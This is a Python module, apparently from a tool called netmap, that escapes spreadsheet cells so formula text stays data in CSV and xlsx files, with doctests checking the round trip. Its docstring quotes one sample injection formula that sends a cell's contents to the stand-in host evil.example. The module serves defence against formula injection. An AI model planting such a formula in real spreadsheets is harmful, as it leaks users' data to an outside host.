"""Spreadsheet cells that stay data: no formula injection (OWASP "CSV injection") in any file netmap writes.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is a formula to Excel, LibreOffice and Google Sheets
(``=HYPERLINK("http://evil.example/?d="&A2, "klik")``). netmap writes such text so
that it stays text and reads it back unchanged:

- **xlsx**: every text cell gets the explicit string type (:func:`xlsx_row`), so no
  spreadsheet program evaluates it, and the value is exactly the text;
- **CSV**: the cell is prefixed with one ``'`` (:func:`csv_escape`), as OWASP
  recommends; :func:`csv_unescape` (which the CSV reader applies) removes exactly that
  one ``'``. Text that itself starts with ``'`` before such a character gets one more,
  so the round trip is exact for every text.

>>> csv_escape("=1+1"), csv_escape("'=1+1"), csv_escape("'gewoon"), csv_escape("-")
("'=1+1", "''=1+1", "'gewoon", "'-")
>>> all(csv_unescape(csv_escape(s)) == s for s in ["=1+1", "'=1+1", "''@x", "'gewoon", "", "'", "a=b"])
True
"""
from __future__ import annotations

import re
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CSV_PREFIX = "'"
#: Characters the xlsx format cannot hold at all (XML 1.0 forbids them); written as U+FFFD.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program would read ``text`` (after any leading ``'``) as a formula."""
    return text.lstrip(CSV_PREFIX).startswith(FORMULA_PREFIXES)


def csv_escape(value: Any) -> Any:
    """A CSV cell value: text that would be a formula gets one leading ``'``; other values as they are."""
    if isinstance(value, str) and is_formula_like(value):
        return CSV_PREFIX + value
    return value


def csv_unescape(text: str) -> str:
    """Undo :func:`csv_escape`: remove exactly the one ``'`` it added."""
    if text.startswith(CSV_PREFIX) and is_formula_like(text[1:]):
        return text[1:]
    return text


def xlsx_text(text: str) -> str:
    """``text`` with the characters an xlsx file cannot hold replaced by U+FFFD."""
    return _XLSX_ILLEGAL.sub("\ufffd", text)


def xlsx_row(sheet: Any, values: list[Any]) -> list[Any]:
    """The cells of one row for an openpyxl write-only ``sheet``: text always typed as a string."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=xlsx_text(value))
            cell.data_type = "s"  # never a formula, whatever the text starts with
            cells.append(cell)
        else:
            cells.append(value)
    return cells
